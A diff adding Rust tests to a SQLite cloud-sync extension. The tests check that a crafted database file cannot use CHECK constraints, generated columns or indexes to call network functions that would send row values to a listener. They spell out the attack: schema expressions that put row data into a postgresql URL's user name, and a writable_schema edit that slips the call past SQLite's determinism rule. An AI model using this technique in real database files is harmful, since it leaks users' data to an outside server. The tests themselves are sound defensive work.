@@ -313,6 +313,125 @@ fn functions_with_effects_cannot_run_from_views_or_triggers() {
     );
 }
 
+/// A listener standing for the server a crafted database file would send its rows to, and the
+/// URL that leads there with the row's value as the user name.
+fn attacker() -> (TcpListener, String) {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let url = format!("'postgresql://' || x || '@127.0.0.1:{port}/d?connect_timeout=1'");
+    (listener, url)
+}
+
+fn assert_never_contacted(listener: &TcpListener) {
+    let accepted = listener.accept();
+    assert!(
+        matches!(&accepted, Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
+        "the crafted file's server was contacted: {accepted:?}"
+    );
+}
+
+const REFUSED: &str = "can only be called directly in a statement, not from a CHECK constraint \
+                       or other schema expression of the database file";
+
+#[test]
+fn a_crafted_files_check_generated_column_or_index_cannot_call_functions_with_effects() {
+    let (_dir, path) = temp_db("crafted");
+    let (listener, url) = attacker();
+    // What the file's author writes; generated columns and indexes only take deterministic
+    // functions, so they are written with abs() and edited in place, as an attacker can.
+    open(&path)
+        .execute_batch(&format!(
+            "CREATE TABLE notes(x TEXT CHECK (cloud_sync_test({url}) IS NOT NULL));
+             CREATE TABLE keys(x TEXT CHECK (cloud_sync_save('stolen', {url}) > 0));
+             CREATE TABLE generated(x TEXT, y TEXT AS (abs(x)) STORED);
+             CREATE TABLE indexed(x TEXT);
+             CREATE INDEX indexed_x ON indexed(abs(x));
+             PRAGMA writable_schema = ON;
+             UPDATE sqlite_schema SET sql = replace(sql, 'abs(', 'cloud_sync_test(')
+              WHERE name IN ('generated', 'indexed_x');"
+        ))
+        .unwrap();
+    let conn = open(&path);
+    for table in ["notes", "keys", "generated", "indexed"] {
+        let err = conn
+            .execute(&format!("INSERT INTO {table}(x) VALUES ('secret')"), [])
+            .unwrap_err()
+            .to_string();
+        assert!(err.contains(REFUSED), "{table}: {err}");
+        assert!(
+            err.contains("(no running statement calls it)"),
+            "{table}: {err}"
+        );
+        assert_eq!(int_of(&conn, &format!("SELECT count(*) FROM {table}")), 0);
+    }
+    // A statement of the application that calls the function itself does not let the schema's
+    // call through: while the file's schema calls it, it is refused, naming who calls it.
+    let err = error_of(
+        &conn,
+        "INSERT INTO notes SELECT cloud_sync_test('prod') RETURNING x",
+    );
+    assert!(
+        err.contains(&format!(
+            "table 'notes' of database 'main' calls it, but it {REFUSED}"
+        )),
+        "{err}"
+    );
+    let err = error_of(
+        &conn,
+        "SELECT cloud_sync_save('prod', 'postgresql://u@h/d')",
+    );
+    assert!(
+        err.contains("table 'keys' of database 'main' calls it"),
+        "{err}"
+    );
+    assert_eq!(
+        int_of(&conn, "SELECT count(*) FROM cloud_sync_connections"),
+        0
+    );
+    assert_never_contacted(&listener);
+
+    // Without the crafted tables, the same direct calls work.
+    conn.execute_batch(
+        "DROP TABLE notes; DROP TABLE keys; DROP TABLE generated; DROP TABLE indexed;",
+    )
+    .unwrap();
+    save(&conn, "prod", "postgresql://u@h/d");
+    let err = test_error(
+        &conn,
+        &format!("postgresql://u@127.0.0.1:{}/d", closed_port()),
+    );
+    assert!(err.contains("connection refused"), "{err}");
+}
+
+#[test]
+fn an_import_into_a_table_whose_check_calls_a_function_with_effects_fails_and_changes_nothing() {
+    let (_dir, conn, pg) = common::local::with_saved_connection("crafted_import", false);
+    let schema = common::remote::fresh_schema(&pg, "crafted_import");
+    common::remote::as_test_user(
+        &pg,
+        &schema,
+        "CREATE TABLE notes (id bigint PRIMARY KEY, x text); INSERT INTO notes VALUES (1, 'row');",
+    );
+    let (listener, url) = attacker();
+    conn.execute_batch(&format!(
+        "CREATE TABLE notes(id INTEGER PRIMARY KEY, x TEXT CHECK (cloud_sync_test({url}) IS NOT NULL))"
+    ))
+    .unwrap();
+    let job = common::jobs::run_job(
+        &conn,
+        &format!("cloud_sync_import('prod', 0, 'skip', '{{\"schema\": \"{schema}\"}}')"),
+    );
+    assert_eq!(job["status"], "failed", "{job}");
+    let error = job["error"].as_str().unwrap();
+    assert!(
+        error.contains(&format!("cloud_sync_test: it {REFUSED}")),
+        "{error}"
+    );
+    assert_eq!(int_of(&conn, "SELECT count(*) FROM notes"), 0);
+    assert_never_contacted(&listener);
+}
+
 #[test]
 fn save_encrypts_replaces_by_name_and_never_stores_or_shows_the_password() {
     let pg = pg();
